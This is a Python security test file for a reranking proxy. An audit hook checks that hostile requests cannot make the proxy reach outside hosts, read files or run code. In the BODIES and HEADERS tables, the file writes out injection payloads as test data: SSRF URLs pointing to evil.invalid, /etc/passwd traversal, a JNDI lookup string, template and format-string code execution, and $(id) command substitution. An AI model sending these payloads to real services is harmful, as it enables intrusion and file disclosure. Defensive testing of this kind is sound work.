"""Nothing in a request can choose an address, a file or code.

An audit hook sees every connection, every file that is opened, every process and everything that is compiled while
hostile requests are answered, whatever library does it.
"""

from __future__ import annotations

import json
import sys
import threading
from collections.abc import Collection, Iterator
from contextlib import AsyncExitStack, contextmanager
from typing import Any, Final

from connectors.detect import connect
from sidecar.pipeline import RerankingConnector
from sidecar.playground.endpoints import Playground
from sidecar.policy import Policy
from sidecar.program import wiring
from sidecar.program.config import load
from sidecar.proxy.app import ProxyApp
from sidecar.proxy.listener import Address, listening
from sidecar.telemetry.metrics import Metrics
from sidecar.types import RerankOptions
from tests.unit.doubles import ScriptedScorer
from tests.unit.raw_http import Answer, exchange, raw, reply, request, upstream

EVIL: Final = "evil.invalid"
HITS: Final = json.dumps(
    {
        "hits": {
            "total": {"value": 2, "relation": "eq"},
            "max_score": 2.0,
            "hits": [
                {
                    "_index": "a",
                    "_id": str(n),
                    "_score": 2.0 - n,
                    "_source": {"text": "blue " * (2 - n), "url": f"http://{EVIL}"},
                }
                for n in range(2)
            ],
        }
    }
).encode()

_WATCHED: Final = frozenset(
    {"socket.connect", "socket.getaddrinfo", "socket.gethostbyname", "open", "os.listdir", "os.scandir", "os.system"}
    | {
        "os.exec",
        "os.posix_spawn",
        "subprocess.Popen",
        "exec",
        "compile",
        "import",
        "ctypes.dlopen",
        "pickle.find_class",
    }
    | {"urllib.Request", "code.__new__", "marshal.loads"}
)
_seen: list[tuple[str, Any]] | None = None
_bystanders: frozenset[int | None] = frozenset()
"""Threads that earlier tests have left behind."""


def _hook(event: str, arguments: Any) -> None:
    if _seen is not None and event in _WATCHED and threading.get_ident() not in _bystanders:
        _seen.append((event, arguments[0] if event == "exec" else arguments))


sys.addaudithook(_hook)  # stays for the life of the process, and does nothing but while `watching`


@contextmanager
def watching(bystanders: Collection[threading.Thread]) -> Iterator[list[tuple[str, Any]]]:
    """Give a list of what is done meanwhile, but for what `bystanders` do."""
    global _bystanders, _seen
    _bystanders = frozenset(thread.ident for thread in bystanders)
    _seen = found = []
    try:
        yield found
    finally:
        _seen = None


def search(**more: Any) -> bytes:
    """Return a search body."""
    return json.dumps({"query": {"match": {"text": "blue sky"}}, **more}).encode()


SETTINGS: Final = (
    "engine",
    "url",
    "model",
    "scorer",
    "path",
    "file",
    "device",
    "index",
    "address",
    "code",
    "prune_model",
)
BODIES: Final[dict[str, tuple[str, str, bytes]]] = {
    **{
        f"ext.rerank.{name}": ("POST", "/a/_search", search(ext={"rerank": {name: f"http://{EVIL}/x"}}))
        for name in SETTINGS
    },
    "template of attributes": (
        "POST",
        "/a/_search",
        search(ext={"rerank": {"template": "{text.__class__.__init__.__globals__} {0} {text!r:>{text}}"}}),
    ),
    "template of code": ("POST", "/a/_search", search(ext={"rerank": {"template": "{__import__('os').system('id')}"}})),
    "fields that are paths": (
        "POST",
        "/a/_search",
        search(ext={"rerank": {"fields": ["../../etc/passwd", "file:///x"]}}),
    ),
    "words that are code": (
        "POST",
        "/a/_search",
        search(ext={"rerank": {"query_text": f"${{jndi:ldap://{EVIL}/x}} {{{{7*7}}}} $(id) `id`"}}),
    ),
    "a reranker's endpoint": (
        "POST",
        "/a/_search",
        json.dumps(
            {
                "retriever": {
                    "text_similarity_reranker": {
                        "retriever": {"standard": {"query": {"match": {"text": "blue"}}}},
                        "field": "text",
                        "inference_id": f"http://{EVIL}/",
                        "inference_text": "blue",
                    }
                }
            }
        ).encode(),
    ),
    "source in the URL": ("GET", f"/a/_search?source=http://{EVIL}/&source_content_type=application/json", b""),
    "an index that is an address": ("POST", f"/http:%2F%2F{EVIL}%2Fx/_search", search()),
    "an index that is a path": ("POST", "/..%2f..%2fetc%2fpasswd/_search", search()),
    "a model that is a path": ("POST", "/v1/rerank", b'{"model":"/etc/passwd","query":"a","documents":["b"]}'),
    "a model that is an address": (
        "POST",
        "/v1/rerank",
        b'{"model":"http://evil.invalid/","query":"a","documents":["b"]}',
    ),
    "a model of the hub": ("POST", "/v2/rerank", b'{"model":"evil/model","query":"a","documents":["b"]}'),
    "a document that is a file": ("POST", "/v1/rerank", b'{"query":"a","documents":["file:///etc/passwd"]}'),
    "a document elsewhere": ("POST", "/v1/rerank", b'{"query":"a","documents":[{"url":"http://evil.invalid/"}]}'),
    "an image": ("POST", "/v1/rerank", b'{"query":"a","documents":[{"image":"http://evil.invalid/a.png"}]}'),
    "a page of ours that is a path": ("GET", "/_rerank/playground/../../../../etc/passwd", b""),
    "the same encoded": ("GET", "/_rerank/playground/%2e%2e%2f%2e%2e%2fetc%2fpasswd", b""),
    "a page of ours with a NUL": ("GET", "/_rerank/playground/app.js%00.html", b""),
}
HEADERS: Final[dict[str, tuple[str, ...]]] = {
    "Host": (),
    "forwarded": (f"X-Forwarded-Host: {EVIL}", f"Forwarded: host={EVIL};proto=https", f"X-Forwarded-Server: {EVIL}"),
    "rewritten": (f"X-Original-URL: http://{EVIL}/", f"X-Rewrite-URL: http://{EVIL}/", f"X-Host: {EVIL}"),
    "nboost's": (f"uhost: {EVIL}", "uport: 80", "X-Uhost: evil.invalid"),
    "a model of ours": ("X-Rerank-Model: evil/model",),
    "a scorer of ours": (f"X-Rerank-Scorer: http://{EVIL}",),
    "an engine of ours": (f"X-Rerank-Engine: http://{EVIL}",),
    "fields": ("X-Rerank-Fields: ../../etc/passwd",),
    "destination": (f"Destination: http://{EVIL}/", f"Referer: http://{EVIL}/", f"Origin: http://{EVIL}"),
    "a trace": (f"traceparent: 00-{'1' * 32}-{'2' * 16}-01", f"tracestate: a={EVIL}", f"baggage: url=http://{EVIL}"),
}


async def test_no_request_reaches_further() -> None:
    """Every connection is to the engine, and nothing is opened, run, imported or compiled."""
    bystanders = set(threading.enumerate()) - {threading.current_thread()}
    async with AsyncExitStack() as stack:
        engine = await stack.enter_async_context(upstream(reply(HITS)))
        port = await _served(stack, engine.url)
        await exchange(port, request("POST", "/a/_search", "Content-Type: application/json", body=search()))  # warms up
        await exchange(port, request("POST", "/v1/rerank", body=b'{"query":"a","documents":["b"]}'))
        with watching(bystanders) as done:
            answers = {name: await _asked(port, *asked) for name, asked in BODIES.items()}
            answers |= {
                name: await _asked(port, "POST", "/a/_search", search(), *lines) for name, lines in HEADERS.items()
            }
    allowed = {("127.0.0.1", port), ("127.0.0.1", engine.port)}
    addresses = [arguments[-1] for event, arguments in done if event == "socket.connect"]
    assert addresses
    assert set(addresses) <= allowed
    others = [(event, arguments) for event, arguments in done if not event.startswith("socket.")]
    assert [] == others
    names = [arguments[0] for event, arguments in done if event in ("socket.getaddrinfo", "socket.gethostbyname")]
    assert set(names) <= {"127.0.0.1", b"127.0.0.1", None}
    refused = [name for name, answer in answers.items() if answer.status == 400]
    assert {*(f"ext.rerank.{name}" for name in SETTINGS), "a model of ours", "a scorer of ours"} <= {*refused}
    assert 200 == answers["a document that is a file"].status
    assert all(b"root:" not in answer.content for answer in answers.values())


async def test_the_engine_s_own_addresses_are_not_followed() -> None:
    """Neither a redirect nor a link in a document."""
    bystanders = set(threading.enumerate()) - {threading.current_thread()}
    moved = f"HTTP/1.1 307 Temporary Redirect\r\nLocation: http://{EVIL}/\r\nContent-Length: 0\r\n\r\n".encode()
    async with AsyncExitStack() as stack:
        engine = await stack.enter_async_context(upstream(raw(moved)))
        port = await _served(stack, f"elasticsearch+{engine.url}")
        with watching(bystanders) as done:
            answers = [
                await _asked(port, "POST", target, search()) for target in ("/a/_search", "/_msearch", "/a/_doc")
            ]
    assert [307, 307, 307] == [answer.status for answer in answers]
    assert {("127.0.0.1", port), ("127.0.0.1", engine.port)} >= {
        arguments[-1] for event, arguments in done if event == "socket.connect"
    }


async def test_the_host_of_a_request_is_not_the_engine_s() -> None:
    """The engine gets its own, also where the target is a whole address."""
    async with AsyncExitStack() as stack:
        engine = await stack.enter_async_context(upstream(reply(HITS)))
        port = await _served(stack, engine.url)
        before = len(engine.received)
        await _asked(port, "POST", "/a/_search", search())
        refused = await exchange(port, request("GET", f"http://{EVIL}/a/_doc/1"))
    assert 400 == refused.status
    assert {f"127.0.0.1:{engine.port}"} == {host for each in engine.received for host in each.values("Host")}
    assert len(engine.received) > before


async def _served(stack: AsyncExitStack, url: str) -> int:
    """Serve an engine as `serve` does; return the port."""
    scorer = ScriptedScorer()
    connector = await stack.enter_async_context(await connect(url if "+" in url else f"elasticsearch+{url}"))
    metrics = Metrics("1")
    reranking = RerankingConnector(connector, scorer, Policy(defaults=RerankOptions()), observe=metrics.observe)
    page = Playground(version="1", engine=lambda: "x", scorer=scorer, options=RerankOptions())
    own = {**wiring.own_endpoints(scorer, load(None, {})), **metrics.endpoints(), **page.endpoints()}
    address = await stack.enter_async_context(listening(ProxyApp(reranking, own), Address.parse("127.0.0.1:0")))
    return address.port


async def _asked(port: int, method: str, target: str, body: bytes, *headers: str) -> Answer:
    sent = request(method, target, "Content-Type: application/json", *headers, body=body)
    return await exchange(port, sent.replace(b"Host: sidecar", b"Host: evil.invalid"))
